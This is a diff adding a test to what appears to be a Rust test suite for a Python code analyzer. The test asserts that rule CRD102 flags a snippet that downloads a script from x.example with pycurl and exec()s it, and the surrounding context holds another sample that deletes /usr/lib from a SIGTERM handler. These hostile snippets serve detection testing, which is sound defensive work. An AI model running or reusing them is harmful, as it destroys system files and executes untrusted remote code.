@@ -133,3 +133,11 @@ fn finalizers_and_signal_handlers_run_their_callbacks() {
         "import shutil, signal\ndef on_term(signum, frame):\n    shutil.rmtree('/usr/lib')\nsignal.signal(signal.SIGTERM, on_term)\n",
     );
 }
+
+#[test]
+fn pycurl_options_read_from_the_handle_count_too() {
+    fires(
+        "CRD102",
+        "import io, pycurl\nbuf = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://x.example/p.py')\nc.setopt(c.WRITEDATA, buf)\nc.perform()\nexec(buf.getvalue())\n",
+    );
+}
